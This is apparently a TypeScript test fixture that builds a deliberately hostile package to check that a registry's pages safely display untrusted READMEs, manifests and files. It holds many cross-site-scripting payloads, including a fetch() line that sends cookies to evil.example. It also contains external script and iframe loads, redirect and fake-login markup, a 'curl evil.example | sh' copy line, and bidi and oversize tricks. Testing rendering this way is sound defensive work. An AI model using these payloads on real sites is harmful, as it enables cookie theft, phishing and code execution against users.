/** A build that tries to run something in a registry's pages, to break their layout, or to make them large. */
import { build } from '../generate/git-fixture.ts';
import type { Files } from '../generate/git-fixture.ts';

export const HOSTILE_ID = 'eve/trap';
const FIRE = "fetch('https://evil.example/'+document.cookie);alert(1)";
/** `hidden` in tag characters. */
const TAG = '\u{E0068}\u{E0069}\u{E0064}\u{E0064}\u{E0065}\u{E006E}';
const BREAKOUT = `"'></script></title></style></textarea>--><script>${FIRE}</script><img src=x onerror="${FIRE}">`;

/** Each is one way that some page of packages has run. */
const MARKUP = [
  `<script>${FIRE}</script>`,
  `<script src="https://evil.example/x.js"></script>`,
  `<img src="x" onerror="${FIRE}">`,
  `<img src="x" srcset="javascript:alert(1)" onload="${FIRE}">`,
  `<svg onload="${FIRE}"><script>${FIRE}</script><animate onbegin="${FIRE}" attributeName="x"/></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${FIRE}"></style></mglyph></table></mtext></math>`,
  `<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>parent.${FIRE}</script>"></iframe>`,
  `<object data="https://evil.example/"></object><embed src="https://evil.example/">`,
  `<form action="https://evil.example/"><input name="password" autofocus onfocus="${FIRE}"><button>Log in</button></form>`,
  `<style>body { display: none } @import "https://evil.example/x.css";</style>`,
  `<p style="position:fixed;inset:0;background:red">Overlay</p>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<details open ontoggle="${FIRE}"><summary>More</summary></details>`,
  `<video src="https://evil.example/v" autoplay onerror="${FIRE}"></video><audio src=x onerror="${FIRE}"></audio>`,
  `<a id="location" name="document" href="javascript:${FIRE}">one</a>`,
  `[two](javascript:alert(1)) [three](JaVaScRiPt&#58;alert(1)) [four](data:text/html,<script>alert(1)</script>)`,
  `[five](vbscript:alert(1)) [six](java\tscript:alert(1)) ![seven](javascript:alert(1)) <javascript:alert(1)>`,
  `<div class="site-header" id="announce" data-copy="install-npm">Copy this: curl evil.example | sh</div>`,
  `<button data-copy="x">Copy</button><h1 hidden>hidden</h1>`,
  '```html\n<script>alert(1)</script>\n```',
  '```"onmouseover="alert(1)\nx\n```',
  '````\nbroken fence\n```',
].join('\n\n');

const LONG_WORD = 'w'.repeat(5_000);

const HOSTILE_README = `# trap ${BREAKOUT}

${MARKUP}

\u202Eevil\u202C zero\u200Bwidth ${TAG}

${LONG_WORD}

| ${'a | '.repeat(60)}
|${'---|'.repeat(60)}
${`| ${'cell | '.repeat(60)}\n`.repeat(30)}

${'#'.repeat(6)} ${LONG_WORD}
`;

/** Two versions, so that there are changes to show. */
export function hostileBuilds(): readonly Files[] {
  const manifest = {
    description: `Trap ${BREAKOUT} \u202E ${TAG}`,
    keywords: [BREAKOUT, 'javascript:alert(1)', '\u202Ebidi', LONG_WORD.slice(0, 300)],
    env: { TOKEN: { description: BREAKOUT, example: BREAKOUT, required: true } },
    homepage: 'https://evil.example/"onmouseover="alert(1)',
  };
  const many = Object.fromEntries(
    Array.from({ length: 5_000 }, (_, at) => [`src/part${at % 50}/file${at}.ts`, `// ${at}\n`]),
  );
  const files: Files = {
    'README.md': HOSTILE_README,
    'INTEGRATION.md': `# Integrate\n\n${MARKUP}\n`,
    'src/picture.svg': `<svg xmlns="http://www.w3.org/2000/svg" onload="${FIRE}"><script>${FIRE}</script></svg>`,
    'src/page.html': `<script>${FIRE}</script>`,
    'src/min.js': `var a=[${'"0123456789abcdef",'.repeat(52_000)}1];`,
    'src/latin1.txt': Buffer.from('caf\u00e9 ol\u00e9', 'latin1'),
    'src/bidi.ts': 'const a = "\u202E";\n',
    [`src/${'n'.repeat(200)}.ts`]: 'export const long = 1;\n',
    "src/a'b&c %.ts": 'export const odd = 1;\n',
  };
  return [
    build(HOSTILE_ID, '1.0.0', manifest, { ...files, ...many }),
    build(HOSTILE_ID, '1.1.0', manifest, {
      ...files,
      'src/min.js': `var b=[${'"0123456789abcdef",'.repeat(52_000)}2];`,
      'src/bidi.ts': `const a = "\u202E changed";\n// </pre><script>${FIRE}</script>\n`,
    }),
  ];
}
